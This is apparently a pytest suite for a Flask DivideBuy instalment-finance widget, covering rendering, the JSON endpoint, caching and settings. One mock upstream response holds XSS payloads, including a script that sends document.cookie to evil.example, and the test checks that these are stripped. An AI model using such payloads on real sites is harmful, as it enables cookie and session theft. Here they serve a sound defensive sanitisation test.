"""The Flask part: server-rendered widget, assets, JSON endpoint, all on the real sandbox."""

from __future__ import annotations

import logging
import re
import time
from decimal import Decimal

import httpx
import pytest

from dividebuy_checkout.client import DivideBuyClient
from dividebuy_checkout.flask.widgets import widget_service
from dividebuy_checkout.money import dumps, loads
from dividebuy_checkout.settings import ConfigurationError

from .conftest import sandbox_client, widget_app
from .helpers import example_for, terms_for


def widget_markup(html: str) -> str:
    match = re.search(r"<dividebuy-instalments.*?</dividebuy-instalments>", html, re.S)
    assert match, html
    return match.group(0)


def test_product_page_renders_the_whole_widget_on_the_server(make_app):
    html = make_app().test_client().get("/product/2000.00").text
    widget = widget_markup(html)
    assert 'amount="2000.00"' in widget and 'data-state="shown"' in widget
    assert "or 36 × £63.54 at 9.9% APR representative" in widget
    assert widget.count("data-months=") == 7  # every available term
    for figure in ("£166.67", "£166.63", "£2,000.00", "£63.66", "£2,287.56", "£287.56"):
        assert figure in widget
    assert "<strong>Representative Example:</strong>" in widget
    assert "Credit subject to status. UK residents aged 18+." in widget
    assert "<details" in widget and "<summary" in widget  # a calculator without JavaScript
    assert " hidden" not in widget.split(">", 1)[0]


def test_no_inline_script_or_style_anywhere(make_app):
    html = make_app().test_client().get("/product/2000.00").text
    assert not re.search(r"<script(?![^>]*\bsrc=)", html)  # every script has a src
    assert "style=" not in html and "<style" not in html
    assert re.search(r'<script type="module" src="/dividebuy/static/widget\.js\?v=\w+">', html)
    assert re.search(r'<link rel="stylesheet" href="/dividebuy/static/widget\.css\?v=\w+">', html)


def test_assets_are_written_once_per_page(make_app):
    app = make_app()
    with app.test_request_context():
        first = app.jinja_env.globals["dividebuy_widget_assets"]()
        second = app.jinja_env.globals["dividebuy_widget_assets"]()
    assert "widget.js" in first and str(second) == ""


@pytest.mark.parametrize("price", ["100.00", "249.99", "15000.01", "0"])
def test_an_ineligible_price_renders_an_empty_hidden_element(make_app, price):
    widget = widget_markup(make_app().test_client().get(f"/product/{price}").text)
    assert re.fullmatch(r"<dividebuy-instalments [^>]* hidden></dividebuy-instalments>", widget)
    assert 'data-state="ineligible"' in widget


def test_dividebuy_down_the_page_renders_without_the_widget_and_without_waiting(make_app, sandbox):
    sandbox.state.inject_fault("TERMS", 503, times=100)
    client = make_app().test_client()
    for n in range(5):
        started = time.perf_counter()
        response = client.get(f"/product/{1000 + n}.00")
        assert time.perf_counter() - started < 2 * 0.3  # never more than the budget (with slack)
        assert response.status_code == 200
        widget = widget_markup(response.text)
        assert 'data-state="unavailable"' in widget and " hidden>" in widget
        assert "error" not in response.text.lower()
    assert "Description." in response.text


def test_a_float_price_renders_nothing_and_says_why_in_the_log(make_app, caplog):
    app = make_app()
    with app.test_request_context(), caplog.at_level(logging.WARNING):
        assert str(app.jinja_env.globals["dividebuy_widget"](19.99)) == ""
    assert "float" in caplog.text


def test_the_markup_is_reused_until_the_figures_change(make_app, sandbox):
    client = make_app().test_client()
    first = widget_markup(client.get("/product/899.00").text)
    calls = sandbox.state.snapshot()["calls"].get("TERMS")
    second = widget_markup(client.get("/product/899.00").text)
    assert first == second and 'data-state="shown"' in first
    assert sandbox.state.snapshot()["calls"].get("TERMS") == calls  # no second call


# -- the JSON endpoint -------------------------------------------------------------------------


def test_json_has_the_figures_and_long_lived_cache_headers(make_app):
    response = make_app().test_client().get("/dividebuy/widget/terms?amount=2000.00")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "public, max-age=300"
    assert response.headers["ETag"]
    body = loads(response.data)
    assert body["eligible"] is True and body["state"] == "shown"
    assert body["headline"]["text"] == "or 36 × £63.54 at 9.9% APR representative"
    twelve = next(t for t in body["terms"] if t["months"] == 12)
    assert (twelve["first"], twelve["regular"], twelve["final"]) == ("166.67", "166.67", "166.63")
    assert body["example"]["text"].startswith("Representative Example:")
    assert "<" not in body["example"]["text"]


def test_json_answers_304_to_a_matching_etag(make_app):
    client = make_app().test_client()
    first = client.get("/dividebuy/widget/terms?amount=899.00")
    again = client.get(
        "/dividebuy/widget/terms?amount=899.00", headers={"If-None-Match": first.headers["ETag"]}
    )
    assert again.status_code == 304 and again.data == b""
    assert again.headers["ETag"] == first.headers["ETag"]


def test_json_for_an_ineligible_price(make_app):
    response = make_app().test_client().get("/dividebuy/widget/terms?amount=100")
    assert loads(response.data) == {"eligible": False, "amount": "100.00", "state": "ineligible"}
    assert "max-age" in response.headers["Cache-Control"]


def test_json_while_dividebuy_is_down_hides_the_widget_and_is_never_cached(make_app, sandbox):
    sandbox.state.inject_fault("TERMS", 503, times=100)
    response = make_app().test_client().get("/dividebuy/widget/terms?amount=2000.00")
    assert response.status_code == 200
    assert loads(response.data)["eligible"] is False
    assert response.headers["Cache-Control"] == "no-store"
    assert "ETag" not in response.headers


@pytest.mark.parametrize(
    "query", ["", "?amount=", "?amount=abc", "?amount=-5", "?amount=1.234", "?amount=NaN",
              "?amount=Infinity", "?amount=1e400", "?amount=" + "9" * 40]
)  # fmt: skip
def test_a_bad_amount_is_a_400_field_error(make_app, query):
    response = make_app().test_client().get("/dividebuy/widget/terms" + query)
    assert response.status_code == 400
    body = loads(response.data)
    assert body["error"] == "invalid_amount"
    assert list(body["field_errors"]) == ["amount"] and body["field_errors"]["amount"][0]


# -- configuration -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "setting", [{"DIVIDEBUY_WIDGET_BUDGET": -1}, {"DIVIDEBUY_TERMS_TTL": "soon"},
                {"DIVIDEBUY_WIDGET_WORKERS": 0}, {"DIVIDEBUY_WIDGET_FAILURE_THRESHOLD": 1.5}]
)  # fmt: skip
def test_a_bad_setting_fails_at_start_up(sandbox, setting):
    with pytest.raises(ConfigurationError, match=next(iter(setting))):
        widget_app(sandbox_client(sandbox.url), **setting)


def test_settings_reach_the_service(make_app):
    app = make_app(DIVIDEBUY_WIDGET_BUDGET=0.05, DIVIDEBUY_WIDGET_PREFER_INTEREST_FREE=True)
    with app.app_context():
        assert widget_service().budget == 0.05
        widget_service().warm(["2000.00"])  # the figures are there, however slow the machine
    body = loads(app.test_client().get("/dividebuy/widget/terms?amount=2000.00").data)
    assert body["headline"]["text"] == "or 12 × £166.67 interest-free"


# -- hostile example HTML from "DivideBuy" ---------------------------------------------------------


def hostile_dividebuy(request: httpx.Request) -> httpx.Response:
    if request.url.path == "/oauth/token":
        return httpx.Response(200, json={"access_token": "t", "expires_in": 3600})
    amount = Decimal(request.url.params["amount"])
    if request.url.path == "/terms":
        terms = terms_for(amount)
        body = {
            "status": "success",
            "data": {
                "order_value": amount,
                "terms": [
                    {
                        "type": "interest-free" if t.interest_free else "interest-bearing",
                        "available": t.available,
                        "months_in_term": t.months_in_term,
                        "interest_rate": t.interest_rate,
                        "minimum_spend": t.minimum_spend,
                        "maximum_spend": t.maximum_spend,
                        "first_instalment_cost": t.first_instalment_cost,
                        "regular_instalment_cost": t.regular_instalment_cost,
                        "final_instalment_cost": t.final_instalment_cost,
                        "total_loan_value": t.total_loan_value,
                        "total_to_pay": t.total_to_pay,
                        "total_interest": t.total_interest,
                    }
                    for t in terms.terms
                ],
            },
        }
        return httpx.Response(200, content=dumps(body))
    example = example_for(amount, int(request.url.params["term"]))
    html = (
        '<strong onmouseover="steal()">Representative Example:</strong>'
        "<script>document.location='https://evil.example/?'+document.cookie</script>"
        '<img src=x onerror="steal()"><a href="javascript:steal()">More</a> ' + example.html
    )
    body = {"data": {"amount": amount, "term": example.term, "apr": example.apr, "html": html}}
    return httpx.Response(200, content=dumps(body))


def test_hostile_example_html_never_reaches_the_page(make_app):
    client = DivideBuyClient(
        "shop",
        "secret",
        base_url="https://api.test",
        transport=httpx.MockTransport(hostile_dividebuy),
    )
    app = make_app(client)
    page = app.test_client().get("/product/2000.00").text
    json_body = app.test_client().get("/dividebuy/widget/terms?amount=2000.00").text
    for text in (page, json_body):
        for bad in ("steal", "evil.example", "onmouseover", "onerror", "javascript:", "<img"):
            assert bad not in text, bad
    assert "<strong>Representative Example:</strong>" in page
